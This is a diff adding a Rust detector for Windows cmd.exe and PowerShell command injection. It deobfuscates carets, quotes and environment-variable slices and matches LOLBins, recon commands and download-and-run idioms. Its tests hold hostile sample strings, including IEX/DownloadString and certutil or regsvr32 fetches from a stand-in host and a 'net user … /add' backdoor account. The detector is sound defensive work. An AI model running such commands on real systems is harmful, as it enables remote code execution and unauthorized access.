@@ -1,0 +1,410 @@
+//! Windows command injection (cmd.exe and PowerShell). Like `shell_unix`, it first undoes what
+//! cmd itself undoes — carets (`w^h^o^a^m^i`), quotes inside words (`c"m"d`), PowerShell backtick
+//! escapes (`` i`e`x ``), `%COMSPEC%`/`%windir%` and `%VAR:~a,b%` substrings — then looks at
+//! each *command position* (start of value, after `&`, `&&`, `||`, `|`, `;`, a newline, `(`,
+//! `cmd /c`, `do`) for a known command whose arguments have its shape: `cmd` wants `/c` or `/k`,
+//! `certutil` `-urlcache`/`-decode`, `regsvr32` `/i:`, `powershell` an `-enc`/`-nop`/`-c`
+//! parameter, `dir` a drive path... Words in prose (`select the dir and type a name`) have none.
+//! Levels follow `shell_unix`: a disguised word or a clear attack argument counts at level 1;
+//! a plain command that merely starts the value, or sits in prose / long text, at level 2.
+
+use crate::shell_unix::is_long_or_prose;
+use crate::{Check, Finding, Input};
+
+pub struct ShellWindows;
+
+pub static SHELL_WINDOWS: ShellWindows = ShellWindows;
+
+/// Variables attackers expand or slice (`%ProgramData:~0,1%` = `c`), as on a default install.
+const ENV: &[(&str, &str)] = &[
+    ("comspec", "c:\\windows\\system32\\cmd.exe"),
+    ("windir", "c:\\windows"),
+    ("systemroot", "c:\\windows"),
+    ("programdata", "c:\\programdata"),
+    ("allusersprofile", "c:\\programdata"),
+    ("programfiles", "c:\\program files"),
+    ("commonprogramfiles", "c:\\program files\\common files"),
+    ("public", "c:\\users\\public"),
+    ("systemdrive", "c:"),
+    ("homedrive", "c:"),
+    ("os", "windows_nt"),
+    ("pathext", ".com;.exe;.bat;.cmd;.vbs;.vbe;.js;.jse;.wsf;.wsh;.msc"),
+    ("path", "c:\\windows\\system32;c:\\windows;c:\\windows\\system32\\wbem;c:\\windows\\system32\\windowspowershell\\v1.0\\"),
+];
+
+/// PowerShell parameters (any prefix of them is accepted by powershell.exe, so is matched).
+const PS_PARAMS: &[&str] = &["encodedcommand", "ec", "noprofile", "nop", "noninteractive", "noni", "windowstyle", "executionpolicy", "ep", "command", "file", "noexit", "nologo", "sta", "mta", "version"];
+
+/// Commands whose first argument must be a `/x` or `-x` switch (or one of `words`).
+const SWITCHED: &[(&str, &[&str])] = &[
+    ("certutil", &["-urlcache", "/urlcache", "-decode", "-encode", "-split", "-f", "-verifyctl", "-decodehex"]),
+    ("bitsadmin", &["/transfer", "/create", "/addfile", "/download", "/resume", "/setnotifycmdline"]),
+    ("regsvr32", &["/s", "/n", "/u", "/i"]),
+    ("schtasks", &["/create", "/run", "/query", "/delete", "/change"]),
+    ("reg", &["add", "query", "delete", "save", "export", "import"]),
+    ("net", &["user", "localgroup", "view", "use", "share", "group", "accounts", "start", "stop", "session"]),
+    ("net1", &["user", "localgroup", "view", "use", "share", "group", "accounts"]),
+    ("netsh", &["firewall", "advfirewall", "wlan", "interface", "http", "winhttp", "portproxy"]),
+    ("sc", &["query", "create", "config", "start", "stop", "delete", "qc"]),
+    ("wmic", &["process", "os", "/node", "useraccount", "service", "shadowcopy", "qfe", "computersystem", "startup"]),
+    ("taskkill", &["/f", "/im", "/pid"]),
+    ("timeout", &["/t"]),
+    ("tasklist", &["/v", "/svc", "/fi", "/m"]),
+    ("ipconfig", &["/all", "/displaydns", "/flushdns"]),
+    ("whoami", &["/all", "/priv", "/groups", "/user"]),
+    ("icacls", &[]),
+    ("vssadmin", &["delete", "list", "create"]),
+];
+
+/// Commands that are an attack on their own at a command position after a separator.
+const LONE: &[&str] = &["whoami", "ipconfig", "systeminfo", "tasklist", "ver", "vol", "hostname", "netstat", "set", "dir", "cls", "path", "getmac", "qwinsta", "quser"];
+
+/// PowerShell cmdlets and aliases that run code or fetch it.
+const PS_CMDLETS: &[&str] = &["iex", "invoke-expression", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "iwmi", "invoke-wmimethod", "start-process", "saps", "new-object", "invoke-command", "icm", "start-bitstransfer", "invoke-item", "set-mppreference", "add-mppreference"];
+
+fn is_word(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'\\' | b':' | b'/')
+}
+
+/// Lower-cased, carets and in-word quotes / backticks removed, `%VAR%` and `%VAR:~a,b%`
+/// expanded; `marks` flags bytes an obfuscation step produced or followed.
+fn deobfuscate(s: &[u8]) -> (Vec<u8>, Vec<bool>) {
+    let mut out = Vec::with_capacity(s.len());
+    let mut marks = Vec::with_capacity(s.len());
+    let mut pending = false;
+    let mut i = 0;
+    while i < s.len() {
+        let b = s[i].to_ascii_lowercase();
+        let next = s.get(i + 1).copied().unwrap_or(b' ');
+        let last = out.last().copied().unwrap_or(b' ');
+        match b {
+            b'^' if next != b' ' => {
+                // The caret escapes the next byte and disappears.
+                pending |= is_word(last) || is_word(next);
+                out.push(next.to_ascii_lowercase());
+                marks.push(pending);
+                pending = false;
+                i += 2;
+            }
+            b'"' | b'\'' | b'`' if is_word(last) && is_word(next) || b != b'`' && next == b => {
+                pending = true;
+                i += 1;
+            }
+            b'"' => i += 1,
+            b'%' => {
+                let rest = &s[i + 1..];
+                let len = rest.iter().take(48).position(|&c| c == b'%');
+                let expanded = len.and_then(|len| expand(&rest[..len]).map(|v| (v, len)));
+                match expanded {
+                    Some((value, len)) => {
+                        out.extend_from_slice(&value);
+                        marks.extend(std::iter::repeat_n(true, value.len()));
+                        i += len + 2;
+                    }
+                    None => {
+                        out.push(b'%');
+                        marks.push(pending);
+                        pending = false;
+                        i += 1;
+                    }
+                }
+            }
+            _ => {
+                out.push(b);
+                marks.push(pending);
+                pending = false;
+                i += 1;
+            }
+        }
+    }
+    (out, marks)
+}
+
+/// `comspec` → its value; `programdata:~0,1` → `c`; negative start/length as cmd takes them.
+fn expand(inner: &[u8]) -> Option<Vec<u8>> {
+    let inner: Vec<u8> = inner.to_ascii_lowercase();
+    let (name, slice) = match inner.iter().position(|&c| c == b':') {
+        Some(p) => (&inner[..p], Some(&inner[p + 1..])),
+        None => (&inner[..], None),
+    };
+    let value = ENV.iter().find(|(n, _)| n.as_bytes() == name)?.1.as_bytes();
+    let Some(slice) = slice else { return Some(value.to_vec()) };
+    let spec = std::str::from_utf8(slice.strip_prefix(b"~")?).ok()?;
+    let mut parts = spec.split(',');
+    let len = value.len() as i64;
+    let start: i64 = parts.next()?.trim().parse().ok()?;
+    let start = if start < 0 { (len + start).max(0) } else { start.min(len) };
+    let end = match parts.next() {
+        Some(l) => {
+            let l: i64 = l.trim().parse().ok()?;
+            if l < 0 { (len + l).max(start) } else { (start + l).min(len) }
+        }
+        None => len,
+    };
+    Some(value[start as usize..end as usize].to_vec())
+}
+
+#[derive(Clone, Copy, PartialEq)]
+enum Opener {
+    Start,
+    Sep,
+}
+
+impl Check for ShellWindows {
+    fn detector(&self) -> &'static str {
+        "command-injection"
+    }
+
+    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
+        let raw = input.text.as_bytes();
+        if raw.len() < 3 {
+            return None;
+        }
+        // Without a separator, escape or variable byte only a value that starts with a
+        // command word can hold one.
+        if !input.bytes.any(b"&|;\n\r%^(\"'`") && !starts_with_command(raw) {
+            return None;
+        }
+        let unescaped = if input.bytes.contains(b'%') { crate::shell_deobf::percent_layer(raw) } else { None };
+        let (t, marks) = deobfuscate(unescaped.as_deref().unwrap_or(raw));
+        let mut best: Option<(&'static str, bool, bool, Opener)> = None;
+        scan(&t, &marks, &mut |reason, strong, obf, op| {
+            let rank = |x: &(&str, bool, bool, Opener)| (x.2 as u8) * 4 + (x.1 as u8) * 2 + (x.3 == Opener::Sep) as u8;
+            let cand = (reason, strong, obf, op);
+            if best.is_none_or(|b| rank(&cand) > rank(&b)) {
+                best = Some(cand);
+            }
+        });
+        let (reason, strong, obfuscated, opener) = best?;
+        let level = if obfuscated {
+            if is_long_or_prose(raw) { 2 } else { 1 }
+        } else {
+            let base = if opener == Opener::Start && !strong { 2 } else { 1 };
+            if is_long_or_prose(raw) { base.max(2) } else { base }
+        };
+        (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
+    }
+}
+
+/// Words that can open a Windows command line.
+const STARTERS: &[&str] = &[
+    "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "certutil", "certutil.exe", "bitsadmin", "regsvr32", "rundll32",
+    "rundll32.exe", "mshta", "mshta.exe", "wmic", "cscript", "wscript", "schtasks", "reg", "net", "net1", "netsh", "sc",
+    "taskkill", "tasklist", "timeout", "ipconfig", "whoami", "systeminfo", "for", "if", "start", "dir", "type", "ping",
+    "iex", "iwr", "irm", "iwmi", "invoke-expression", "invoke-webrequest", "invoke-restmethod", "invoke-wmimethod",
+    "start-process", "saps", "new-object", "invoke-command", "icm", "vssadmin", "getmac", "hostname", "ver", "c:\\windows\\system32\\cmd.exe",
+];
+
+fn starts_with_command(raw: &[u8]) -> bool {
+    let t = raw.trim_ascii_start();
+    let len = t.iter().take(40).take_while(|&&c| !c.is_ascii_whitespace()).count();
+    STARTERS.iter().any(|s| s.as_bytes().eq_ignore_ascii_case(&t[..len])) || t[..len].to_ascii_lowercase().ends_with(b"\\cmd.exe")
+}
+
+fn is_sep(b: u8) -> bool {
+    matches!(b, b'&' | b'|' | b'\n' | b'\r' | b';' | b'(' | b')' | b'<' | b'>' | b'`')
+}
+
+fn word_end(t: &[u8], i: usize) -> usize {
+    i + t[i..].iter().take(256).take_while(|&&c| !c.is_ascii_whitespace() && !is_sep(c) && c != b',').count()
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    needle.len() <= hay.len() && hay.windows(needle.len()).any(|w| w == needle)
+}
+
+/// Walks command positions; `report(reason, strong, obfuscated, opener)` for each command.
+fn scan(t: &[u8], marks: &[bool], report: &mut dyn FnMut(&'static str, bool, bool, Opener)) {
+    // PowerShell download-and-run idioms count wherever they stand.
+    for idiom in [&b"net.webclient"[..], b").downloadstring(", b").downloadfile(", b"::frombase64string(", b"-encodedcommand ", b"invoke-expression", b"iex("] {
+        if contains(t, idiom) {
+            let obf = marks.iter().any(|&m| m);
+            report("command-injection:windows-powershell", true, obf, Opener::Sep);
+        }
+    }
+    let n = t.len();
+    let (mut i, mut opener, mut count) = (0, Some(Opener::Start), 0);
+    while i < n && count < 16 {
+        if let Some(op) = opener.take() {
+            while i < n && matches!(t[i], b' ' | b'\t' | b'@') {
+                i += 1;
+            }
+            if i >= n {
+                break;
+            }
+            let end = word_end(t, i);
+            if end == i {
+                // A separator right away: let the loop below read it.
+                continue;
+            }
+            count += 1;
+            let next = command(t, marks, i, end, op, report);
+            if let Some(next) = next {
+                opener = Some(Opener::Sep);
+                i = next;
+            } else {
+                i = end.max(i + 1);
+            }
+            continue;
+        }
+        if matches!(t[i], b'&' | b'|' | b'\n' | b'\r' | b';' | b'(') {
+            opener = Some(Opener::Sep);
+        }
+        i += 1;
+    }
+}
+
+/// Judges the command word `t[i..end]`; returns where a nested command line starts (after
+/// `cmd /c`, `do`, an `if` condition) when there is one.
+fn command(t: &[u8], marks: &[bool], i: usize, end: usize, op: Opener, report: &mut dyn FnMut(&'static str, bool, bool, Opener)) -> Option<usize> {
+    let word = &t[i..end];
+    let base = word.rsplit(|&c| c == b'\\' || c == b'/').next().unwrap_or(word);
+    let base = base.strip_suffix(b".exe").or_else(|| base.strip_suffix(b".com")).unwrap_or(base);
+    let pathed = base.len() < word.len();
+    // A path counts only when it leads to a binary (`c:\windows\system32\cmd.exe`), so the last
+    // segment of `c:\an\arbitrary\path` is not the `path` command.
+    if pathed && !(word.ends_with(b".exe") || word.ends_with(b".com") || contains(word, b"system32") || contains(word, b"syswow64") || contains(word, b"windowspowershell")) {
+        return None;
+    }
+    // Up to six arguments up to the next separator.
+    let mut args: Vec<&[u8]> = Vec::new();
+    let mut j = end;
+    while j < t.len() && args.len() < 6 {
+        match t[j] {
+            b' ' | b'\t' | b',' => j += 1,
+            b'(' if !args.is_empty() || base == b"iex" => {
+                args.push(b"(");
+                j += 1;
+            }
+            c if is_sep(c) => break,
+            _ => {
+                let e = word_end(t, j);
+                if &t[j..e] == b"rem" || t[j] == b'#' {
+                    // A comment ends the command (`rem` in cmd, `#` in PowerShell).
+                    break;
+                }
+                args.push(&t[j..e]);
+                j = e;
+            }
+        }
+    }
+    let first = args.first().copied().unwrap_or(b"");
+    let obf = marks.get(i..end.max(i + 1).min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
+    let switch = |a: &[u8]| a.len() >= 2 && (a[0] == b'/' || a[0] == b'-') && a[1].is_ascii_alphabetic();
+    let winpath = |a: &[u8]| a.len() >= 3 && a[0].is_ascii_alphabetic() && a[1] == b':' && (a[2] == b'\\' || a[2] == b'/') || a.starts_with(b"\\\\") || a.first() == Some(&b'%');
+    let url = |a: &[u8]| contains(a, b"://") || a.starts_with(b"javascript:") || a.starts_with(b"vbscript:");
+    let mut hit = |reason: &'static str, strong: bool| report(reason, strong || pathed, obf, op);
+    match base {
+        b"cmd" if args.iter().take(4).any(|a| matches!(*a, b"/c" | b"/k" | b"/r")) => {
+            hit("command-injection:windows-cmd", true);
+            // What follows `/c` is itself a command line.
+            let mut p = end;
+            let mut seen = 0;
+            while p + 1 < t.len() {
+                if t[p] == b'/' && matches!(t[p + 1], b'c' | b'k' | b'r') && t.get(p + 2).is_none_or(|c| c.is_ascii_whitespace()) {
+                    return Some(p + 2);
+                }
+                if t[p] == b'/' {
+                    seen += 1;
+                    if seen > 4 {
+                        break;
+                    }
+                }
+                p += 1;
+            }
+            return None;
+        }
+        b"cmd" if op == Opener::Sep && args.is_empty() => hit("command-injection:windows-cmd", false),
+        b"powershell" | b"pwsh" | b"powershell_ise" => {
+            let param = |a: &[u8]| {
+                (a.first() == Some(&b'-') || a.first() == Some(&b'/')) && a.len() >= 2 && {
+                    let p = &a[1..];
+                    p == b"e" || p == b"c" || p == b"w" || PS_PARAMS.iter().any(|k| k.as_bytes().starts_with(p) && p.len() >= 2)
+                }
+            };
+            if args.iter().any(|a| param(a)) || first == b"(" || first.starts_with(b"$") || first.starts_with(b"iex") {
+                hit("command-injection:windows-powershell", true);
+            }
+        }
+        _ if PS_CMDLETS.iter().any(|c| c.as_bytes() == base) => {
+            let shaped = first == b"(" || switch(first) || first.starts_with(b"$") || url(first) || first.starts_with(b"net.") || first.starts_with(b"system.")
+                || [&b".exe"[..], b".ps1", b".bat", b".dll", b".hta", b".vbs"].iter().any(|e| first.ends_with(e))
+                || winpath(first);
+            if shaped {
+                hit("command-injection:windows-powershell", true);
+            }
+        }
+        b"for" if args.iter().any(|a| matches!(*a, b"/f" | b"/l" | b"/r" | b"/d")) || first.starts_with(b"%") => {
+            if contains(&t[end..], b" do ") || contains(&t[end..], b")do ") {
+                hit("command-injection:windows-cmd", true);
+                let p = t[end..].windows(3).position(|w| w == b"do ")?;
+                return Some(end + p + 3);
+            }
+        }
+        b"if" => {
+            // `if exist X cmd`, `if not exist`, `if defined V cmd`, `if errorlevel 1 cmd`.
+            let mut k = 0;
+            if args.first() == Some(&&b"not"[..]) {
+                k = 1;
+            }
+            if matches!(args.get(k), Some(&(b"exist" | b"defined" | b"errorlevel"))) && args.len() > k + 2 {
+                let cond_end = t[end..].windows(args[k + 1].len()).position(|w| w == args[k + 1]).map(|p| end + p + args[k + 1].len())?;
+                return Some(cond_end);
+            }
+        }
+        b"rundll32" if args.iter().any(|a| a.contains(&b',') || url(a) || a.ends_with(b".dll")) || contains(&t[end..j], b",") => hit("command-injection:windows-lolbin", true),
+        b"mshta" if args.iter().any(|a| url(a) || a.ends_with(b".hta") || winpath(a)) => hit("command-injection:windows-lolbin", true),
+        b"cscript" | b"wscript" if args.iter().any(|a| [&b".vbs"[..], b".js", b".wsf", b".vbe", b".jse"].iter().any(|e| a.ends_with(e)) || a.starts_with(b"//e:")) => hit("command-injection:windows-lolbin", true),
+        b"start" if switch(first) || first.ends_with(b".exe") || url(first) || winpath(first) => hit("command-injection:windows-cmd", false),
+        b"dir" | b"type" | b"copy" | b"del" | b"move" | b"attrib" | b"icacls" | b"cacls" | b"takeown" if args.iter().any(|a| winpath(a) || switch(a) && base != b"type") || base == b"type" && args.iter().any(|a| a.ends_with(b".ini") || a.ends_with(b".txt") || a.ends_with(b".config")) => {
+            hit("command-injection:windows-cmd", args.iter().any(|a| winpath(a)));
+        }
+        b"ping" if args.iter().any(|a| matches!(*a, b"-n" | b"/n" | b"-t" | b"-l")) => hit("command-injection:windows-cmd", true),
+        // `net user` / `net view` alone, or with a switch (`/add`, `/domain`); `net user guide`
+        // reads as words.
+        b"net" | b"net1" if !(args.len() == 1 || args.iter().any(|a| switch(a))) => {}
+        b"echo" if op == Opener::Sep && first.first() == Some(&b'%') => hit("command-injection:windows-cmd", false),
+        _ => {
+            if let Some((_, words)) = SWITCHED.iter().find(|(c, _)| c.as_bytes() == base) {
+                let ok = args.iter().any(|a| words.iter().any(|w| a.starts_with(w.as_bytes())) || a.starts_with(b"hk"));
+                if ok {
+                    let lolbin = matches!(base, b"certutil" | b"bitsadmin" | b"regsvr32" | b"wmic" | b"vssadmin");
+                    // Each of these needs its own switch or verb, which prose does not supply.
+                    hit(if lolbin { "command-injection:windows-lolbin" } else { "command-injection:windows-cmd" }, true);
+                    return None;
+                }
+            }
+            let lone = LONE.iter().any(|c| c.as_bytes() == base);
+            let seg_clean = args.iter().all(|a| switch(a) || winpath(a));
+            if lone && op == Opener::Sep && seg_clean && !(base == b"set" || base == b"path") || lone && op == Opener::Sep && args.is_empty() {
+                hit("command-injection:windows-cmd", false);
+            } else if lone && op == Opener::Start && args.is_empty() && matches!(base, b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"getmac") && j >= t.len() {
+                hit("command-injection:windows-cmd", true);
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn level(s: &str) -> Option<u8> {
+        let mut input = Input::new(s);
+        input.sensitivity = 4;
+        SHELL_WINDOWS.inspect(&input).map(|f| f.level)
+    }
+
+    #[test]
+    fn windows_forms() {
+        assert_eq!(expand(b"ProgramData:~0,1"), Some(b"c".to_vec()));
+        assert_eq!(expand(b"comspec:~-7"), Some(b"cmd.exe".to_vec()));
+        for s in ["& cmd /c whoami", "| w^h^o^a^m^i", "powershell -nop -w hidden -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "& certutil -urlcache -split -f http://x/a.exe a.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "%COMSPEC% /c dir c:\\", "|| net user hacker P4ss /add", "& for /f %i in ('whoami') do echo %i", "; mshta http://x/a.hta", "& %ProgramData:~0,1%%ProgramData:~9,1%d /c ver"] {
+            assert_eq!(level(s), Some(1), "{s}");
+        }
+        for s in ["C:\\Program Files\\Common Files\\system", "select the dir and type a name", "Tom & Jerry", "Start-Process is a cmdlet, explain it"] {
+            assert_eq!(level(s), None, "{s}");
+        }
+    }
+}
